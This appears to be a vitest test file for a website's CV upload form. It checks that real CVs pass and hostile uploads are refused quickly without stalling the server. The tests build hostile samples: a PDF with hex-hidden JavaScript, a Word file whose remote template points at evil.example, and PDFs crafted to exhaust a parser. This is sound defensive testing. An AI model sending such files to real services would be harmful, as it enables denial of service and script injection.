// CV uploads against a real build: a file's content is checked only for a post that passed the robot
// check and its rate limits, in a worker thread with a time limit, one at a time per process; hostile
// files are refused and a real CV goes through; and twenty hostile uploads at once leave the pages and
// the other forms answering as before.
import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { strToU8, zipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type ApiServer, ensureBuild, solvedAltcha, startApi } from './api-server';

let api: ApiServer;

beforeAll(async () => {
  api = await startApi(ensureBuild(), {});
});

afterAll(() => api?.stop());

const person = {
  title: 'ms',
  firstName: 'Camille',
  lastName: 'Dubois',
  email: 'camille@example.be',
  phone: '+32 470 12 34 56',
  privacyConsent: 'yes',
};
const latin1 = (text: string) => new Uint8Array(Buffer.from(text, 'latin1'));
const realCv = new Uint8Array(readFileSync(new URL('../fixtures/cv/chromium-cv.pdf', import.meta.url)));
/** Nearly 5 MB of `stream` keywords: the old check copied and inflated a slice at each, for minutes. */
const streamBomb = latin1(`%PDF-1.7\n${'stream\n'.repeat(740_000)}endstream`);
/** Letters after a PDF header: a parser looks for an object at every byte, for longer than the time limit. */
const slowPdf = latin1(`%PDF-1.7\n${'a'.repeat(4_000_000)}`);

/** Posts a CV form as the island does; `altcha` false sends none (a robot). */
async function sendCv(
  base: string,
  bytes: Uint8Array,
  options: { altcha?: string | false; locale?: string } = {},
): Promise<Response> {
  const data = new FormData();
  const fields = {
    ...person,
    locale: options.locale ?? 'en',
    submissionId: randomUUID(),
    startedAt: String(Date.now() - 60_000),
  };
  for (const [field, value] of Object.entries(fields)) data.set(field, value);
  if (options.altcha !== false) data.set('altcha', options.altcha ?? (await solvedAltcha(base)));
  data.set('file', new Blob([new Uint8Array(bytes)]), 'cv.pdf');
  return fetch(`${base}/api/forms/cv`, {
    method: 'POST',
    headers: { Accept: 'application/json', Origin: base },
    body: data,
    // A server frozen by a check must fail the test, not hang it.
    signal: AbortSignal.timeout(60_000),
  });
}

/** The time a request takes to be answered, in ms, and its status. */
async function timed(request: () => Promise<Response>): Promise<{ ms: number; status: number }> {
  const started = performance.now();
  const answer = await request();
  await answer.arrayBuffer();
  return { ms: performance.now() - started, status: answer.status };
}

const p99 = (values: readonly number[]) => {
  const sorted = [...values].sort((a, b) => a - b);
  return sorted[Math.min(sorted.length - 1, Math.ceil(sorted.length * 0.99) - 1)] ?? Number.NaN;
};

describe('CV uploads', () => {
  it('takes a real CV with links, and refuses hostile PDFs and Word files with the visitor-language message', async () => {
    expect((await sendCv(api.base, realCv)).status).toBe(201);
    // JavaScript in an object stream encoded in hexadecimal, which no byte scan of the file sees.
    const script = Buffer.from('4 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>\n', 'latin1');
    const hex = `${script.toString('hex')}>`;
    const hidden = latin1(
      `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n3 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode /Length ${hex.length} >>\nstream\n${hex}\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`,
    );
    const refused = await sendCv(api.base, hidden, { locale: 'fr' });
    expect(refused.status).toBe(422);
    expect(await refused.json()).toMatchObject({
      errors: {
        file: [
          'Ce fichier contient des macros, des scripts ou des programmes intégrés, ou ne peut pas être lu. Envoyez un simple fichier PDF ou DOCX.',
        ],
      },
    });
    const template = zipSync({
      '[Content_Types].xml': strToU8(
        '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
      ),
      '_rels/.rels': strToU8('<Relationships/>'),
      'word/document.xml': strToU8('<w:document/>'),
      'word/_rels/settings.xml.rels': strToU8(
        '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
      ),
    });
    expect((await sendCv(api.base, template)).status).toBe(422);
  });

  it('refuses a robot and a post over its rate limit before looking at its file', async () => {
    // Without a proof of work: the anti-robot message at once, though the files would take a check seconds.
    const robotMessage = {
      errors: {
        altcha: [
          'We could not confirm that a person sent this form. Please wait a few seconds and send it again.',
        ],
      },
    };
    for (const file of [streamBomb, slowPdf]) {
      const robot = await sendCv(api.base, file, { altcha: false });
      expect(robot.status).toBe(422);
      expect(await robot.json()).toEqual(robotMessage);
    }
    const limited = await startApi(ensureBuild(), { FORM_RATE_LIMIT: '1' });
    try {
      expect((await sendCv(limited.base, realCv)).status).toBe(201);
      const floor = await timed(() => sendCv(limited.base, realCv));
      expect(floor.status).toBe(429);
      // The hostile files are not checked: refused as fast as the real CV was.
      for (const file of [streamBomb, slowPdf]) {
        const over = await timed(() => sendCv(limited.base, file));
        expect(over.status).toBe(429);
        expect(over.ms).toBeLessThan(Math.max(2_000, 4 * floor.ms));
      }
    } finally {
      limited.stop();
    }
  });

  it('refuses a file it cannot check in time, with its own message', async () => {
    const answer = await sendCv(api.base, slowPdf, { locale: 'de' });
    expect(answer.status).toBe(422);
    expect(await answer.json()).toMatchObject({
      errors: {
        file: [
          'Diese Datei konnte nicht rechtzeitig geprüft werden. Senden Sie eine einfachere PDF- oder DOCX-Datei (zum Beispiel erneut als PDF gedruckt).',
        ],
      },
    });
  });

  it('keeps answering pages and other posts while twenty hostile CVs are uploaded at once', async () => {
    const page = () => fetch(`${api.base}/en/`, { signal: AbortSignal.timeout(60_000) });
    const contact = async () => {
      const altcha = await solvedAltcha(api.base);
      return () =>
        fetch(`${api.base}/api/forms/site-contact`, {
          method: 'POST',
          headers: { 'Content-Type': 'application/json', Accept: 'application/json', Origin: api.base },
          body: JSON.stringify({
            ...person,
            locale: 'en',
            submissionId: randomUUID(),
            startedAt: Date.now() - 60_000,
            altcha,
          }),
          signal: AbortSignal.timeout(60_000),
        });
    };

    /** Page GETs (two at a time) and a contact post every tenth round, until `until` says stop. */
    async function measure(until: () => boolean, maxRounds: number) {
      const pages: number[] = [];
      const posts: number[] = [];
      const statuses: number[] = [];
      const deadline = Date.now() + 120_000;
      for (let round = 0; round < maxRounds && Date.now() < deadline && !until(); round++) {
        const [a, b] = await Promise.all([timed(page), timed(page)]);
        pages.push(a.ms, b.ms);
        statuses.push(a.status, b.status);
        if (round % 10 === 0) {
          const post = await timed(await contact());
          posts.push(post.ms);
          statuses.push(post.status);
        }
      }
      return { pages, posts, statuses };
    }

    const floor = await measure(() => false, 100);
    // Every check costs its worker seconds: the stream bombs, and files that run into the time limit.
    const altchas = await Promise.all(Array.from({ length: 20 }, () => solvedAltcha(api.base)));
    let done = false;
    const attack = Promise.all(
      altchas.map((altcha, n) =>
        sendCv(api.base, n % 2 === 0 ? streamBomb : slowPdf, { altcha }).then(
          async (answer) => ({ status: answer.status, body: await answer.text() }),
          (error: unknown) => ({ status: 0, body: String(error) }),
        ),
      ),
    ).finally(() => {
      done = true;
    });
    const during = await measure(() => done, 2_000);
    const uploads = await attack;

    // Every upload was answered: refused as unsafe or unchecked (422), or told to come back (429).
    for (const upload of uploads) expect([422, 429], upload.body).toContain(upload.status);
    expect(uploads.some((upload) => upload.status === 422)).toBe(true);
    expect(during.statuses.every((status) => status === 200 || status === 201)).toBe(true);
    expect(during.pages.length).toBeGreaterThan(20);
    const bound = (values: readonly number[]) => Math.max(200, 4 * p99(values));
    console.log(
      `p99 page ${p99(floor.pages).toFixed(0)} ms before, ${p99(during.pages).toFixed(0)} ms during (${during.pages.length} GETs); contact post ${p99(floor.posts).toFixed(0)} ms before, ${p99(during.posts).toFixed(0)} ms during`,
    );
    expect(p99(during.pages)).toBeLessThan(bound(floor.pages));
    expect(p99(during.posts)).toBeLessThan(bound(floor.posts));
  });
});
